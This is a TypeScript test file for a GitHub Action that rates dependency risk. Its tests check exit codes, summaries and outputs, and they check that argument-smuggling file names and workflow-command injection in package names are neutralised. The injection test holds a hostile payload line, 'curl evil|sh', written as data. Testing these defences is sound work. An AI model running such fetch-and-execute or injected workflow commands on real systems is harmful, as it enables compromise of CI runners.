// The GitHub Action as in a runner: a checkout without installed packages, and the script of its
// last step.
import { spawn } from 'node:child_process';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, dirname, join } from 'node:path';
import { load } from 'js-yaml';
import { expect, it } from 'vitest';
import { exitCodes } from '../../../src/cli/errors.ts';
import { keyOf } from '../../support/callers.ts';
import { makeFolder } from '../../support/folders.ts';
import { listen, listenWith } from '../../support/listening.ts';

interface Action {
  readonly outputs: Readonly<Record<string, { readonly value: string }>>;
  readonly inputs: Readonly<Record<string, { readonly default?: string }>>;
  readonly runs: { readonly steps: readonly { readonly run?: string }[] };
}
const root = join(import.meta.dirname, '../../..');
const action = load(readFileSync(join(root, 'action.yml'), 'utf8')) as Action;
const script = action.runs.steps.findLast(({ run }) => run !== undefined)?.run ?? '';
const { url } = await listen();

interface Inputs {
  readonly failOn: string;
  readonly files?: string;
  readonly content?: string;
  readonly server?: string;
}

async function runStep(inputs: Inputs) {
  const { failOn, files = action.inputs.files?.default ?? '', server = url } = inputs;
  const { content = '{"dependencies": {"@ember/old": "1"}}' } = inputs;
  const checkout = makeFolder();
  cpSync(join(root, 'src'), join(checkout, 'src'), { recursive: true });
  cpSync(join(root, 'package.json'), join(checkout, 'package.json'));
  const folder = makeFolder();
  writeFileSync(join(folder, 'package.json'), content);
  const summary = join(folder, 'summary.md');
  const outputs = join(folder, 'outputs');
  for (const path of [summary, outputs]) writeFileSync(path, '');
  const env = {
    PATH: [dirname(process.execPath), process.env.PATH].join(delimiter),
    GITHUB_ACTION_PATH: checkout,
    GITHUB_STEP_SUMMARY: summary,
    GITHUB_OUTPUT: outputs,
    DAYBREAK_URL: server,
    DAYBREAK_API_KEY: keyOf('free'),
    FILES: files,
    FAIL_ON: failOn,
  };
  const child = spawn('bash', ['-eo', 'pipefail', '-c', script], {
    cwd: folder,
    env,
    stdio: 'pipe',
  });
  let output = '';
  for (const stream of [child.stdout, child.stderr])
    stream.on('data', (chunk) => (output += chunk));
  const code = await new Promise<number | null>((done) => child.once('close', done));
  const [text, set] = [summary, outputs].map((path) => readFileSync(path, 'utf8'));
  return { code, output, summary: text ?? '', outputs: set ?? '' };
}

it('the action fails the job if a dependency is at risk, and lists it in the job summary', async () => {
  const failOn = action.inputs['fail-on']?.default ?? '';
  const { code, output, summary, outputs } = await runStep({ failOn });
  expect(output).toContain('1 of 1 dependencies are rated: 1 to act on');
  expect(code).toBe(exitCodes.findings[0]);
  const rows = summary.split('\n').filter((line) => line.startsWith('| '));
  expect(rows.map((row) => row.split(' | ').length)).toEqual([8, 8, 8]);
  expect(rows[2]).toMatch(/^\| &#64;ember\/old \| act \| ember-oldtimer \|.*dormant/);
  expect(summary).toContain('1 of 1 dependencies are rated&#58; 1 to act on');
  expect(outputs).toBe(
    'act-count=1\nwatch-count=0\nfine-count=0\nunknown-count=0\nending-models=0\n',
  );
  const declared = Object.values(action.outputs).map(({ value }) => value);
  expect(declared).toEqual(
    outputs.match(/^[\w-]+/gm)?.map((name) => `\${{ steps.check.outputs.${name} }}`),
  );
  const [, after = ''] = output.split(/^::[0-9a-f-]{36}::$/m);
  expect(after.trim()).toMatch(/^::warning title=@ember\/old::The project is dormant[^\n]*$/);
});

it('the action passes if no dependency reaches the level, or if no level is set', async () => {
  expect((await runStep({ failOn: 'deprecated' })).code).toBe(0);
  expect((await runStep({ failOn: '' })).code).toBe(0);
});

it.each(['--url=http:HOST/package.json', '--help', '-h', '--json'])(
  'the action reads the file name %s as a file name, and fails',
  async (name) => {
    const received: Request[] = [];
    const other = await listenWith((request) => {
      received.push(request);
      return new Response('{}');
    });
    const files = `package.json ${name.replace('HOST', new URL(other).host)}`;
    const { code, output } = await runStep({ failOn: 'at-risk', files });
    expect(output).toContain('cannot be read');
    expect(code).toBe(exitCodes.usage[0]);
    expect(received).toEqual([]);
  },
);

it('the action does not run workflow commands in names of packages', async () => {
  const name = '::error file=src/auth.ts,line=1::Run: curl evil|sh';
  const row = {
    name,
    verdict: 'act',
    reason: '%0A::add-mask::a\n::add-mask::b | <b>',
    project: { id: 'a' },
    health: 1,
    label: 'fair',
    alternatives: [],
  };
  const verdicts = { act: 0, watch: 0, fine: 1, unknown: 0 };
  const summary = { checked: '\n::add-mask::e', skipped: 0, verdicts };
  const data = { dependencies: [row], summary, skipped: [] };
  const server = await listenWith(() => Response.json({ ok: true, data, meta: {} }));
  const { output, summary: page } = await runStep({ failOn: '', server });
  // As the runner reads it: from `stop-commands` to its token, no line is a command.
  const token = /^::stop-commands::([0-9a-f-]{36})$/m.exec(output)?.[1];
  const [before = '', inside = '', after] = output.split(
    new RegExp(`^::(?:stop-commands::)?${token}(?:::)?$`, 'm'),
  );
  expect(inside).toMatch(/^::error /m);
  expect(inside).toMatch(/^::add-mask/m);
  expect(before).not.toMatch(/::|##\[/);
  // Exactly one command follows, with the name and reason encoded on its line.
  expect(after?.trim()).toBe(
    '::warning title=%3A%3Aerror file=src/auth.ts%2Cline=1%3A%3ARun%3A curl evil|sh::' +
      '%250A::add-mask::a ::add-mask::b | <b>',
  );
  expect(page).not.toMatch(/<b>|::/);
  expect(page).toContain(
    '| &#58;&#58;error file=src/auth.ts,line=1&#58;&#58;Run&#58; curl evil&#124;sh | act |',
  );
});
